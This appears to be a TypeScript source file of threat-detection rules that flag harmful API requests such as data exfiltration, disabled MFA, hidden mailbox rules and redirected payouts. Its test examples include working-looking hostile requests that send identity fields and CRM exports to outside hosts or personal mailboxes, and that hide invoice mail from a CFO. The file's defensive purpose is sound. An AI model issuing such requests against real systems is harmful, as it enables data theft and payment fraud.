/**
 * What a request does to everyone it touches, read as method × resource × body, whatever the vendor: a data file
 * mailed to a personal mailbox or records handed to a look-alike AI host, one write applied to every record of a
 * collection ("id": "*"), a credential minted for years, alerting silenced for every service or for weeks, an app's
 * event feed wired to an outside host with read scopes. Substring tests on the bounded lower-cased head of each view
 * (linear in it); sensitivity comes from the frame lexicon (api-exposure.ts sensitiveClass).
 */
import { addressTags, extraTagId } from '../frames/destinations.js';
import type { BaseContext, ThreatRule } from '../types.js';
import { has, type ApiEffect, type ApiView } from './api-effects.js';
import { bodyOf, sensitiveClass } from './api-exposure.js';
import { compactView } from './api-integrity.js';
import { firstEffect, unlessApproved, type EffectContext } from './api-views.js';

const writes = (v: ApiView): boolean => v.method === 'POST' || v.method === 'PUT' || v.method === 'PATCH';

/** Endpoints that deliver a message or a prompt to someone or something. */
const SEND_PATHS = ['mail/send', '/messages', '/message', 'sendmail', 'send_mail', 'sendemail', 'send_email', '/send', 'chat.postmessage', 'chat/completions', '/completions', '/responses', '/generate', 'generatecontent', '/emails'];
/** Files that hold records in bulk (a PDF invoice to a customer is ordinary mail). */
const DATA_FILES = ['.csv', '.xlsx', '.xls', '.tsv', '.sql', '.json', '.zip', '.7z', '.tar', '.gz', '.bak', '.db', '.sqlite', '.parquet', '.mdb', '.accdb'];
// provider names only: a company's own gateway is called llm-gateway, not openai-something
const AI_WORDS = ['openai', 'anthropic', 'claude', 'chatgpt', 'gemini', 'mistral'];
/** Where those names are served by their owners. */
const AI_OWNED = ['openai.com', 'anthropic.com', 'googleapis.com', 'openai.azure.com', 'mistral.ai', 'claude.ai', 'chatgpt.com', 'amazonaws.com', 'github.com', 'githubcopilot.com'];
const FREEMAIL = extraTagId('dest:freemail');

/**
 * A data file mailed to a personal mailbox, or records put in a prompt for a host that borrows an AI provider's
 * name (a "proxy" that sees every prompt) — both hand the records to whoever holds that mailbox or host.
 */
export function recordsSentOut(v: ApiView): ApiEffect | null {
  if (!writes(v)) return null;
  const send = has(v.path, SEND_PATHS);
  if (send === '') return null;
  const body = bodyOf(v);
  const ai = has(v.host, AI_WORDS);
  if (ai !== '' && !AI_OWNED.some((d) => v.host === d || v.host.endsWith(`.${d}`))) {
    const what = sensitiveClass(body);
    if (what !== '' && !what.startsWith('named')) return { detail: `${what} sent to ${v.host}, which is not ${ai}'s own host`, score: 8 };
  }
  const file = has(body, DATA_FILES);
  if (file === '') return null;
  const to = addressTags(body, 8).find((a) => a.tag === FREEMAIL);
  if (to === undefined) return null;
  const at = body.indexOf(file);
  const name = body.slice(Math.max(0, at - 48), at + file.length);
  const what = sensitiveClass(name) || (body.includes('export') ? 'an export' : '');
  return what === '' ? null : { detail: `${file} file (${what}) mailed to a personal mailbox (${body.slice(to.start, to.end).split('@')[1]})`, score: 8 };
}

/** A key of the compacted body that stands as a key (after '{', ',' or '['), not inside a longer name. */
function keyed(flat: string, key: string): boolean {
  for (let at = flat.indexOf(key); at >= 0; at = flat.indexOf(key, at + 1)) {
    const before = at === 0 ? '{' : flat[at - 1]!;
    if (before === '{' || before === ',' || before === '[' || before === '&' || before === '?') return true;
  }
  return false;
}
const EVERY_RECORD = ['id:*', 'ids:*', 'id:all', 'ids:all', 'ids:[*]', 'all:true', 'select_all:true', 'selectall:true', 'filter:{}', 'where:{}', 'query:{}', 'match_all:{}'];
/** An amount-like field set to zero or null. */
const ZEROED = /(?:amount|price|balance|total|value|quantity|stock):(?:0|0\.0+|null)[,}]/;
const READ_PATHS = ['/read', '/search', '/query', '/get', '/list', '/export', '/count'];

/** One update applied to every record of a collection: a wildcard id, an empty filter, "all": true. */
export function everyRecordWritten(v: ApiView): ApiEffect | null {
  if (!writes(v) || has(v.path, READ_PATHS) !== '') return null;
  const flat = compactView(v);
  const every = EVERY_RECORD.find((k) => keyed(flat, k));
  if (every === undefined) return null;
  const zeroed = ZEROED.test(flat);
  return { detail: `update applied to every record (${every})${zeroed ? ' setting an amount to zero' : ''}`, score: 7 };
}

const KEY_PATHS = ['/keys', '/key', '/tokens', '/token', 'api_keys', 'apikeys', 'access_tokens', 'personal_access_tokens', '/credentials', '/secrets', 'keys/generate'];
const FOREVER = ['expiration:null', 'expires_at:null', 'expiresat:null', 'expires:never', 'expiry:never', 'expiration:never', 'no_expiry:true', 'noexpiry:true', 'never_expires:true', 'neverexpires:true', 'ttl:0'];
const YEARS = /(?:validity_?years|valid_?years|expires_?in_?years|lifetime_?years)[=:](\d{1,4})/;
const DAYS = /(?:validity_?days|expires_?in_?days|expiration_?days|lifetime_?days|ttl_?days)[=:](\d{1,6})/;

/** A key or token minted to stay valid for years or for ever: access that outlives whoever asked for it. */
export function credentialForYears(v: ApiView): ApiEffect | null {
  if (!writes(v) || has(v.path, KEY_PATHS) === '') return null;
  const flat = compactView(v);
  const forever = has(flat, FOREVER);
  if (forever !== '') return { detail: `key or token minted without expiry (${forever})`, score: 6 };
  const y = YEARS.exec(flat);
  if (y !== null && Number(y[1]) >= 2) return { detail: `key or token minted for ${y[1]} years`, score: 6 };
  const d = DAYS.exec(flat);
  if (d !== null && Number(d[1]) > 730) return { detail: `key or token minted for ${d[1]} days`, score: 6 };
  return null;
}

const QUIET_PATHS = ['maintenance_window', 'maintenance-window', 'maintenancewindow', '/maintenance', '/silences', '/silence', '/downtime', '/mute', '/snooze'];
const ALL_SERVICES = ['services:[all]', 'services:*', 'services:[*]', 'service_ids:[all]', 'all_services:true', 'allservices:true', 'scope:*', 'scope:all', 'monitor_ids:[*]', 'matchers:[]', 'entities:[all]'];
const LONG = /(?:\+|duration[=:])(\d{1,4})(d|days?|w|weeks?)\b/;

/** Alerting silenced for every service or for weeks: incidents that follow page nobody. */
export function alertingSilenced(v: ApiView): ApiEffect | null {
  if (!writes(v) || has(v.path, QUIET_PATHS) === '') return null;
  const flat = compactView(v);
  const all = has(flat, ALL_SERVICES);
  const long = LONG.exec(flat);
  const days = long === null ? 0 : Number(long[1]) * (long[2]!.startsWith('w') ? 7 : 1);
  if (all === '' && days < 7) return null;
  return { detail: `alerting silenced${all ? ' for every service' : ''}${days >= 7 ? ` for ${days} days` : ''}`, score: all !== '' && days >= 7 ? 6 : 5 };
}

const CALLBACK_KEYS = ['request_url:', 'callback_url:', 'callbackurl:', 'webhook_url:', 'webhookurl:', 'notification_url:', 'event_url:', 'events_url:', 'endpoint_url:', 'delivery_url:'];
/** Scopes that read what people wrote or who they are. */
const READ_SCOPES = ['channels:history', 'groups:history', 'im:history', 'mpim:history', 'files:read', 'users:read.email', 'mail.read', 'chat:read', 'messages.read', 'read_all', 'admin'];
/** The host of a URL at the start of the text. */
const URL_HOST = /^https?:\/\/([a-z0-9.-]{1,253})/;
const KNOWN_HOSTS = ['slack.com', 'microsoft.com', 'google.com', 'googleapis.com', 'github.com', 'atlassian.net', 'zendesk.com', 'salesforce.com'];

/** An app whose event feed goes to an outside host and whose scopes read messages, files or e-mail addresses. */
export function eventsToOutsideHost(v: ApiView): ApiEffect | null {
  if (!writes(v)) return null;
  const flat = compactView(v);
  const key = has(flat, CALLBACK_KEYS);
  if (key === '') return null;
  const at = flat.indexOf(key) + key.length;
  const m = URL_HOST.exec(flat.slice(at, at + 270));
  if (m === null) return null;
  const host = m[1]!;
  if (host === v.host || KNOWN_HOSTS.some((d) => host === d || host.endsWith(`.${d}`))) return null;
  const scopes = READ_SCOPES.filter((s) => flat.includes(s));
  if (scopes.length < 2) return null;
  return { detail: `events with ${scopes.slice(0, 3).join(', ')} sent to ${host}`, score: 7 };
}

/** Columns that identify a person or hold what may not leave in bulk (matched at the start of a field name). */
const IDENTITY_COLUMNS = ['ssn', 'social_security', 'socialsecurity', 'passport', 'date_of_birth', 'dateofbirth', 'birthdate', 'dob', 'salary', 'credit_card', 'creditcard', 'card_number', 'cardnumber', 'iban', 'tax_id', 'taxid', 'national_id', 'nationalid', 'password', 'diagnosis'];
const FIELD_SPLIT = /[^a-z0-9_]+/;
const SMALL_LIMIT = /\blimit[ +=]{1,3}([0-9]{1,7})\b/;

/** A query sent through an API that pulls identity columns from a whole table (no row filter, no small limit). */
export function identityColumnsPulled(v: ApiView): ApiEffect | null {
  if (v.method === 'DELETE' || !(v.path.includes('query') || v.path.includes('sql') || v.path.includes('search'))) return null;
  const q = v.head.indexOf('select');
  if (q < 0) return null;
  const sql = v.head.slice(q, q + 600);
  const from = sql.indexOf('from');
  if (from < 0 || sql.includes('where')) return null;
  const lim = SMALL_LIMIT.exec(sql);
  if (lim !== null && Number(lim[1]) <= 100) return null;
  const cols = sql.slice(6, from).split(FIELD_SPLIT).filter((c) => IDENTITY_COLUMNS.some((w) => c.startsWith(w)));
  return cols.length === 0 ? null : { detail: `whole-table query for ${cols.slice(0, 3).join(', ')}`, score: 5 };
}

/**
 * A security requirement set off in the body, whatever the request's shape (a REST field, a GraphQL input, a JSON-RPC
 * param): MFA, single sign-on, audit logging, encryption.
 */
const GUARD_FLAG_OFF = /(?:require_?|enforce_?|enable_?|is_?)?(?:mfa|2fa|two_?factor|multi_?factor|sso|audit_?log|auditlog|audit_?logging|logging|encryption|dlp)(?:_?(?:required|enforced|enabled|enforcement))?:(?:false|off|disabled|none|0)(?![a-z0-9])/;
export function guardFlagOff(v: ApiView): ApiEffect | null {
  if (!writes(v) && !v.head.includes('mutation')) return null;
  const flat = compactView(v);
  // the flag is a key of its own ("debug_logging": false switches off no control)
  for (let from = 0, n = 0; from < flat.length && n < 8; n++) {
    const m = GUARD_FLAG_OFF.exec(flat.slice(from));
    if (m === null) return null;
    const at = from + m.index;
    const before = at === 0 ? '{' : flat[at - 1]!;
    if (before === '{' || before === ',' || before === '(' || before === '[') return { detail: `${m[0]} in the request`, score: 7 };
    from = at + m[0].length;
  }
  return null;
}

/** The operation named in the body: a JSON-RPC method or a GraphQL mutation that exports or dumps. */
const BODY_EXPORT = /(?:method:|mutation[{(]?|action:)[a-z0-9_./-]{0,60}(?:export|dump|extract|backup|download)/;
const DELIVERY = /(?:deliver_?to|destination|target_?url|upload_?url|export_?to|output_?url|push_?to|send_?to|callback_?url|webhook_?url):(?:[a-z]{2,8}):\/\/([a-z0-9.-]{1,253})/;
/** A private (RFC 1918) or loopback address. */
const PRIVATE_HOST = /^(?:10|127|192\.168|172\.(?:1[6-9]|2[0-9]|3[01]))\./;
const registrable = (host: string): string => host.split('.').slice(-2).join('.');
/** An export named in the body (not the path) delivered to a host of another domain, with identity fields in it. */
export function bodyExportOut(v: ApiView): ApiEffect | null {
  // only a body that names its operation (JSON-RPC, GraphQL, an action field) is read further
  if (!v.head.includes('"method"') && !v.head.includes('jsonrpc') && !v.head.includes('mutation') && !v.head.includes('"action"')) return null;
  const flat = compactView(v);
  const op = BODY_EXPORT.exec(flat);
  if (op === null) return null;
  const d = DELIVERY.exec(flat);
  if (d === null) return null;
  const host = d[1]!;
  if (registrable(host) === registrable(v.host) || PRIVATE_HOST.test(host)) return null;
  const fields = flat.split(FIELD_SPLIT).filter((c) => IDENTITY_COLUMNS.some((w) => c.startsWith(w)));
  const what = fields.length > 0 ? fields.slice(0, 3).join(', ') : sensitiveClass(flat.slice(0, 600));
  if (what === '' || what.startsWith('named')) return null;
  return { detail: `${op[0].split(':').pop()} with ${what} delivered to ${host}`, score: 8 };
}

const RULE_PATHS = ['messagerules', 'inboxrules', 'inbox_rules', 'mailrules', 'settings/filters', 'transportrule', 'sweeprules', 'mail/rules'];
/** What a rule does that keeps its owner from seeing a message. */
const HIDING = ['markasread:true', 'markread:true', 'mark_as_read:true', 'removelabelids:[inbox', 'skipinbox', 'skip_inbox', 'delete:true', 'permanentdelete:true', 'trash', 'rssfeeds', 'rss_feeds', 'rss feeds', 'rss', 'conversationhistory', 'deleteditems'];
/** Mail an attacker of the mailbox wants its owner not to see: payments, bank details, security notices. */
const WATCHED = ['invoice', 'payment', 'wire', 'bank', 'iban', 'remittance', 'password', 'security', 'verify', 'verification', 'mfa', 'sign-in', 'signin', 'login', 'fraud', 'rechnung', 'zahlung', 'facture', 'paiement', 'factura', 'pago', 'fattura', 'pagamento', 'factuur', 'betaling'];
/** A mailbox rule that reads, files away or deletes payment or security mail before its owner sees it. */
export function mailHidden(v: ApiView): ApiEffect | null {
  if (!writes(v) || has(v.path, RULE_PATHS) === '') return null;
  const flat = compactView(v);
  const hide = has(flat, HIDING);
  const watched = has(flat, WATCHED);
  return hide === '' || watched === '' ? null : { detail: `mailbox rule hides "${watched}" mail (${hide})`, score: 8 };
}

const DESTINATION_KEYS = ['ship_to:', 'shipto:', 'shipping_address:', 'shippingaddress:', 'delivery_address:', 'deliveryaddress:', 'payout_account:', 'bank_account:', 'bankaccount:', 'iban:', 'routing_number:', 'beneficiary:', 'deposit_account:'];
/** Where goods or money go, written across a batch selected by a filter or every record: all of them now go there. */
export function destinationRewritten(v: ApiView): ApiEffect | null {
  if (!writes(v)) return null;
  const flat = compactView(v);
  const key = has(flat, DESTINATION_KEYS);
  if (key === '') return null;
  const bulk = has(v.path, ['bulk', 'batch', 'update_many', 'updatemany', 'mass']) !== '' || keyed(flat, 'filter:{') || keyed(flat, 'where:{') || EVERY_RECORD.some((k) => keyed(flat, k));
  return bulk ? { detail: `${key.slice(0, -1)} rewritten for a whole batch`, score: 8 } : null;
}

export const API_ACT_PATTERNS: readonly RegExp[] = [GUARD_FLAG_OFF, BODY_EXPORT, DELIVERY, PRIVATE_HOST, FIELD_SPLIT, SMALL_LIMIT, YEARS, DAYS, LONG, URL_HOST, ZEROED];

export const API_ACT_RULES: ThreatRule<EffectContext & BaseContext>[] = [
  {
    id: 'A61',
    name: 'Mailbox rule that hides payment or security mail from its owner',
    primitive: 'PERSISTENCE',
    score: 8,
    keywords: ['messagerules', 'inboxrules', 'inbox_rules', 'mailrules', 'settings/filters', 'transportrule', 'sweeprules', 'mail/rules'],
    detect: (ctx) => firstEffect(ctx.views, mailHidden),
    examples: {
      flag: ['POST https://graph.microsoft.com/v1.0/users/cfo@acme.com/mailFolders/inbox/messageRules {"displayName":"x","conditions":{"subjectContains":["invoice","payment"]},"actions":{"moveToFolder":"RSS Feeds","markAsRead":true}}', 'POST https://gmail.googleapis.com/gmail/v1/users/me/settings/filters {"criteria":{"query":"security alert OR verify"},"action":{"removeLabelIds":["INBOX","UNREAD"],"addLabelIds":["TRASH"]}}'],
      pass: ['POST https://graph.microsoft.com/v1.0/users/ana@acme.com/mailFolders/inbox/messageRules {"displayName":"news","conditions":{"senderContains":["newsletter"]},"actions":{"moveToFolder":"Newsletters"}}', 'POST https://graph.microsoft.com/v1.0/users/ap@acme.com/mailFolders/inbox/messageRules {"conditions":{"subjectContains":["invoice"]},"actions":{"moveToFolder":"AP Inbox"}}'],
    },
  },
  {
    id: 'A62',
    name: 'Shipping or payout destination rewritten for a whole batch',
    primitive: 'MANIPULATION',
    score: 8,
    keywords: ['ship_to', 'shipto', 'shipping_address', 'shippingaddress', 'delivery_address', 'deliveryaddress', 'payout_account', 'bank_account', 'bankaccount', 'iban', 'routing_number', 'beneficiary', 'deposit_account'],
    detect: (ctx) => unlessApproved(ctx, firstEffect(ctx.views, destinationRewritten)),
    examples: {
      flag: ['PUT https://api.acme.com/v1/orders/bulk {"filter":{"status":"pending"},"set":{"ship_to":"Unit 9, 14 Dock Rd, Rotterdam"}}', 'POST https://api.market.example/v2/sellers/batch_update {"ids":"all","payout_account":"LT121000011101001000"}'],
      pass: ['PATCH https://api.acme.com/v1/orders/88120 {"ship_to":"Hauptstr. 4, Köln"}', 'POST https://api.acme.com/v1/orders/bulk {"filter":{"status":"pending"},"set":{"priority":"high"}}'],
    },
  },
  {
    id: 'A59',
    name: 'Security requirement switched off in the request body (REST, GraphQL or JSON-RPC)',
    primitive: 'ESCALATION',
    score: 7,
    keywords: ['mfa', '2fa', 'twofactor', 'two_factor', 'multifactor', 'multi_factor', 'sso', 'audit', 'logging', 'encryption', 'dlp'],
    // the environment is read only once there is a finding (its phrase tests scan the head)
    detect: (ctx) => {
      const f = firstEffect(ctx.views, guardFlagOff);
      return f === undefined || ctx.env === 'nonprod' ? undefined : f;
    },
    examples: {
      flag: [{ value: 'mutation { updateOrganizationSettings(input:{requireTwoFactor:false}) { ok } }', metadata: { endpoint: 'https://api.acme-saas.com/graphql' } }, 'PATCH https://api.acme.com/v1/org {"sso_enforced": false, "audit_logging": "off"}'],
      pass: [{ value: 'mutation { updateOrganizationSettings(input:{requireTwoFactor:true}) { ok } }', metadata: { endpoint: 'https://api.acme-saas.com/graphql' } }, 'PATCH https://api.acme.com/v1/users/42 {"marketing_emails": false}', 'PATCH https://api.acme.com/v1/services/checkout {"debug_logging": false}'],
    },
  },
  {
    id: 'A60',
    name: 'Export named in the request body delivered to another domain with identity fields',
    primitive: 'EXFILTRATION',
    score: 8,
    keywords: ['export', 'dump', 'extract', 'backup', 'download'],
    detect: (ctx) => firstEffect(ctx.views, bodyExportOut),
    examples: {
      flag: [{ value: '{"jsonrpc":"2.0","method":"users.export","params":{"fields":["email","ssn","dob"],"limit":1000000,"deliver_to":"https://dl.datavault-share.io/up"}}', metadata: { url: 'https://rpc.acme.com/' } }],
      pass: [{ value: '{"jsonrpc":"2.0","method":"users.export","params":{"fields":["email","ssn"],"deliver_to":"https://files.acme.com/exports/"}}', metadata: { url: 'https://rpc.acme.com/' } }, { value: '{"jsonrpc":"2.0","method":"orders.export","params":{"fields":["sku","qty"],"deliver_to":"https://dl.partner-logistics.io/in"}}', metadata: { url: 'https://rpc.acme.com/' } }],
    },
  },
  {
    id: 'A58',
    name: 'Identity columns pulled from a whole table through a query API',
    primitive: 'EXFILTRATION',
    score: 5,
    keywords: ['select'],
    detect: (ctx) => firstEffect(ctx.views, identityColumnsPulled),
    examples: {
      flag: ['GET https://api.salesforce.com/services/data/v59.0/query?q=SELECT+Email,Phone,SSN__c+FROM+Contact', 'POST https://warehouse.acme.io/api/v1/sql {"query":"select name, date_of_birth, passport_no from customers"}'],
      pass: ['GET https://api.salesforce.com/services/data/v59.0/query?q=SELECT+Name,Industry+FROM+Account+LIMIT+20', "GET https://api.salesforce.com/services/data/v59.0/query?q=SELECT+Email,SSN__c+FROM+Contact+WHERE+Id='0035e00000abc'", 'GET https://api.acme.com/v1/query?q=select+classname+from+courses'],
    },
  },
  {
    id: 'A53',
    name: 'Data file mailed to a personal mailbox, or records handed to a host posing as an AI provider',
    primitive: 'EXFILTRATION',
    score: 8,
    // the endpoint names (the path test in recordsSentOut): common words would admit the rule on every prose check
    keywords: ['mail/send', '/messages', '/message', 'sendmail', 'send_mail', 'sendemail', 'send_email', '/send', 'chat.postmessage', 'completions', '/responses', '/generate', 'generatecontent', '/emails'],
    detect: (ctx) => firstEffect(ctx.views, recordsSentOut),
    examples: {
      flag: [
        'POST https://api.sendgrid.com/v3/mail/send {"to":"dataguy1987@protonmail.com","subject":"export","attachments":[{"filename":"crm_contacts.csv"}]}',
        'POST https://api.openai-proxy.cn/v1/chat/completions {"messages":[{"role":"user","content":"<full patient discharge summaries attached>"}]}',
        'POST https://api.mailgun.net/v3/mg.acme.com/messages to=j.berger.privat@gmx.de subject=Liste attachment=Kundenliste_2026.xlsx',
      ],
      pass: [
        'POST https://api.sendgrid.com/v3/mail/send {"to":"ops-team@acme.io","subject":"Nightly export finished","content":"12,400 rows, stored in s3://acme-internal/exports"}',
        'POST https://api.openai.com/v1/chat/completions {"messages":[{"role":"user","content":"Summarize this public press release"}]}',
        'POST https://api.sendgrid.com/v3/mail/send {"to":"maria.lopez@gmail.com","subject":"Your invoice","attachments":[{"filename":"invoice_8812.pdf"}]}',
        'POST https://llm-gateway.acme.io/v1/chat/completions {"messages":[{"role":"user","content":"summarise the patient discharge summaries"}]}',
      ],
    },
  },
  {
    id: 'A54',
    name: 'One update applied to every record of a collection',
    primitive: 'MANIPULATION',
    score: 7,
    // the selector's spellings before compaction ("id": "*", "all": true, "filter": {})
    keywords: ['"*"', "'*'", ':*', '=*', '*]', 'all"', "all'", 'all:', 'all=', '{}', 'select_all', 'selectall', 'match_all'],
    detect: (ctx) => firstEffect(ctx.views, everyRecordWritten),
    examples: {
      flag: ['POST https://api.hubapi.com/crm/v3/objects/deals/batch/update {"inputs":[{"id":"*","properties":{"amount":"0"}}]}', 'PATCH https://api.acme.com/v2/prices {"filter":{},"set":{"price":0}}'],
      pass: ['POST https://api.hubapi.com/crm/v3/objects/deals/88120 {"properties":{"dealstage":"closedwon"}}', 'POST https://api.hubapi.com/crm/v3/objects/deals/batch/read {"inputs":[{"id":"*"}]}', 'PATCH https://api.acme.com/v2/settings {"notify_all":true}'],
    },
  },
  {
    id: 'A55',
    name: 'Key or token minted to stay valid for years',
    primitive: 'PERSISTENCE',
    score: 6,
    keywords: ['/key', '/token', 'api_keys', 'apikeys', 'access_tokens', '/credentials', '/secrets'],
    detect: (ctx) => firstEffect(ctx.views, credentialForYears),
    examples: {
      flag: ['POST https://api.okta.com/api/v1/apps/0oa1/credentials/keys/generate?validityYears=10', 'POST https://gitlab.acme.com/api/v4/users/12/personal_access_tokens {"name":"ci","scopes":["api"],"expires_at":null}'],
      pass: ['POST https://api.okta.com/api/v1/apps/0oa1/credentials/keys/generate?validityYears=1', 'POST https://gitlab.acme.com/api/v4/users/12/personal_access_tokens {"name":"ci","scopes":["read_api"],"expires_at":"2026-12-31"}'],
    },
  },
  {
    id: 'A56',
    name: 'Alerting silenced for every service or for weeks',
    primitive: 'MANIPULATION',
    score: 5,
    keywords: ['maintenance', 'silence', 'downtime', 'mute', 'snooze'],
    detect: (ctx) => firstEffect(ctx.views, alertingSilenced),
    examples: {
      flag: ['POST https://api.pagerduty.com/maintenance_windows {"services":["ALL"],"start_time":"now","end_time":"+30d"}', 'POST https://alertmanager.acme.io/api/v2/silences {"matchers":[],"duration":"14d","comment":"noise"}'],
      pass: ['POST https://api.pagerduty.com/maintenance_windows {"services":["PXYZ1"],"start_time":"2026-11-28T02:00Z","end_time":"2026-11-28T03:00Z","description":"DB patch CHG-4410"}', 'POST https://alertmanager.acme.io/api/v2/silences {"matchers":[{"name":"alertname","value":"DiskFull"}],"duration":"2h"}'],
    },
  },
  {
    id: 'A57',
    name: "App's event feed wired to an outside host with scopes that read messages or files",
    primitive: 'PERSISTENCE',
    score: 7,
    keywords: ['request_url', 'callback_url', 'callbackurl', 'webhook_url', 'webhookurl', 'notification_url', 'event_url', 'events_url', 'endpoint_url', 'delivery_url'],
    detect: (ctx) => firstEffect(ctx.views, eventsToOutsideHost),
    examples: {
      flag: ['POST https://slack.com/api/apps.manifest.create {"scopes":["channels:history","files:read","users:read.email"],"event_subscriptions":{"request_url":"https://collector.freeapps.run/ev"}}'],
      pass: ['POST https://slack.com/api/apps.manifest.create {"scopes":["chat:write","commands"],"event_subscriptions":{"request_url":"https://bots.acme.io/slack/events"}}', 'POST https://slack.com/api/chat.postMessage {"channel":"#deploys","text":"payments-api v3.2.1 deployed to prod"}'],
    },
  },
];
